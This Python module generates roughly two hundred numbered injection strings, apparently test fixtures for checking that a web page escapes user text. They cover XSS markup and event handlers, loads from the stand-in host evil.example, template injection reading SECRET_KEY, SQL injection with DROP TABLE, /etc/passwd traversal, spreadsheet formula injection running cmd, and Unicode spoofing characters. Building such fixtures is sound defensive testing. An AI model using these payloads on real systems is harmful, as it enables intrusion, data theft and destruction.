"""Two hundred texts that would run, break out or mislead if a page took them for markup."""

from __future__ import annotations

from itertools import count

# Each {} becomes a number of its own, so that what ran would say which one it was.
_MARKUP = '''
<script>alert({})</script>
<SCRIPT SRC=//evil.example/{}.js></SCRIPT>
<script/x>alert({})</script>
<scr<script>ipt>alert({})</scr</script>ipt>
<script\x0ctype=module>alert({})</script>
</script><script>alert({})</script>
</title><script>alert({})</script>
</textarea><script>alert({})</script>
</style><script>alert({})</script>
</noscript><script>alert({})</script>
</template><script>alert({})</script>
--><script>alert({})</script>
]]><script>alert({})</script>
<!--><script>alert({})</script>
<![CDATA[<script>alert({})</script>]]>
<?xml version="1.0"?><script>alert({})</script>
"><script>alert({})</script>
'><script>alert({})</script>
`><script>alert({})</script>
<svg><script>alert({})</script></svg>
<svg><script href=data:,alert({}) />
<svg><animate onbegin=alert({}) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert({})"><text y=9>x
<svg><set attributeName=href to=javascript:alert({})>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert({})>">
<svg><foreignObject><body onload=alert({})>
<math href="javascript:alert({})">x</math>
<math><mtext><style><img src onerror=alert({})>
<iframe src=javascript:alert({})>
<iframe srcdoc="<script>parent.alert({})</script>">
<object data=javascript:alert({})>
<embed src=javascript:alert({})>
<base href=//evil.example/{}/>
<meta http-equiv=refresh content="0;url=javascript:alert({})">
<meta http-equiv=Set-Cookie content=a={}>
<link rel=stylesheet href=//evil.example/{}.css>
<style>@import '//evil.example/{}.css';</style>
<style>*{{background:url(javascript:alert({}))}}</style>
<div style="background:url(javascript:alert({}))">
<form action=javascript:alert({})><input type=submit>
<button form=x formaction=javascript:alert({})>go</button>
<input type=image src=x onerror=alert({})>
<isindex action=javascript:alert({}) type=image>
<template><script>alert({})</script></template>
<table background=javascript:alert({})>
<frameset onload=alert({})>
<noscript><p title="</noscript><img src onerror=alert({})>">
<xmp><p title="</xmp><svg/onload=alert({})>">
<plaintext>alert({})
<a href=javas&#99;ript:alert({})>x</a>
<a href="java\tscript:alert({})">x</a>
<a href="\x01javascript:alert({})">x</a>
<a href=" javascript:alert({})">x</a>
<a href=data:text/html,<script>alert({})</script>>x</a>
<a href=vbscript:MsgBox({})>x</a>
<a ping=//evil.example/{} href=/>x</a>
<a target=_blank href=//evil.example/{}>x</a>
<area href=javascript:alert({})>
<img src=x{} onerror=alert(1)//
<img/src/onerror=alert({})>
<img src=`x`onerror=alert({})>
<img """><script>alert({})</script>">
<<script>alert({})//<</script>
<p/onmouseover=alert({})>
<x onclick=alert({}) autofocus tabindex=1>
<a href=javascript&colon;alert({})>x</a>
<a href=javascript&NewLine;:alert({})>x</a>
<video><source onerror=alert({})>
<audio src onerror=alert({})>
<body background=javascript:alert({})>
<img srcset=, onerror=alert({})>
<select autofocus onfocus=alert({})>
<marquee onstart=alert({})>
<keygen autofocus onfocus=alert({})>
<dialog open onclose=alert({})>
'''.strip().split("\n")

_HANDLERS = """
onabort onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforeprint
onbeforetoggle onblur oncanplay onclick oncopy oncut ondblclick ondrag ondrop onended onerror
onfocus onfocusin onhashchange oninput oninvalid onkeydown onload onloadstart onmessage
onmouseenter onmouseover onpageshow onpaste onplay onpointerenter onpointerover onpopstate
onreset onresize onscroll onscrollend onsearch onselect onsubmit ontoggle ontouchstart
ontransitionend onunload onwheel
""".split()
_BEARERS = ("svg", "img src=x", "body", "details open", "input autofocus", "video src=x")

_BREAKOUTS = """
" onmouseover=alert({}) x="
' onmouseover=alert({}) x='
" autofocus onfocus=alert({}) "
` onload=alert({}) `
\\" onload=alert({}) //
\\u003cscript\\u003ealert({})
\\x3cscript\\x3ealert({})
%3Cscript%3Ealert({})%3C/script%3E
&lt;script&gt;alert({})&lt;/script&gt;
&#60;script&#62;alert({})
&#x3c;script&#x3e;alert({})
&amp;lt;script&amp;gt;alert({})
&ltscript&gtalert({})
+ADw-script+AD4-alert({})+ADw-/script+AD4-
‹script›alert({})‹/script›
＜script＞alert({})＜/script＞
javascript:alert({})
JaVaScRiPt:alert({})
javascript://%0aalert({})
\x01javascript:alert({})
data:text/html;base64,PHNjcmlwdD4{}
vbscript:MsgBox({})
//evil.example/{}
https:evil.example/{}
{{{{ settings.SECRET_KEY }}}}{}
{{% debug %}}{}
{{% include "admin/login.html" %}}{}
{{# comment #}}{}
${{alert({})}}
#{{alert({})}}
<%= alert({}) %>
{{{{constructor.constructor('alert({})')()}}}}
{{{{7*7}}}}{}
%(message)s%n%s{}
{{0.__class__}}{}
'; alert({}); //
"; alert({}); //
</script>{}
<!-- {}
--> {}
]]> {}
<![CDATA[ {}
&{};
&#{}
&#x{}
&nosuchentity{};
&lt{}
<{}
< {}
</{}
<a{}
' OR 1={} --
"; DROP TABLE statements_statement; -- {}
../../../../etc/passwd{}
file:///etc/passwd{}
=HYPERLINK("//evil.example/{}","x")
=cmd|'/C calc'!A{}
+1+cmd|'/C calc'!A{}
-2+3+cmd|'/C calc'!A{}
@SUM(1+{})
＝1+{}
\t=1+{}
 =1+{}
\u202egnp.exe {}
\u202d{} \u202c
\u2066{}\u2069\u2066
\u200b\u200b{}
\u200f{} \u200e
\ufeff{}
\U000e0001\U000e0041{}
Z\u0334\u0321a\u0315\u031bl\u0340\u0341g\u0358\u0321o{}
Zаkharova {}
\x1b[31m{}\x1b[0m
\x7f{}\x08
\x85{}\x84
\u2028alert({})
\u2029alert({})
\ufffe{}\uffff
🏴\U000e0067\U000e007f{}
""".strip("\n").split("\n")  # fmt: skip


def _make() -> list[str]:
    numbers = count(1_000)
    handlers = [
        f"<{_BEARERS[place % len(_BEARERS)]} {name}=alert({{}})>"
        for place, name in enumerate(_HANDLERS)
    ]
    forms = [*_MARKUP, *handlers, *_BREAKOUTS]
    return [form.format(next(numbers)) for form in forms]


PAYLOADS = _make()
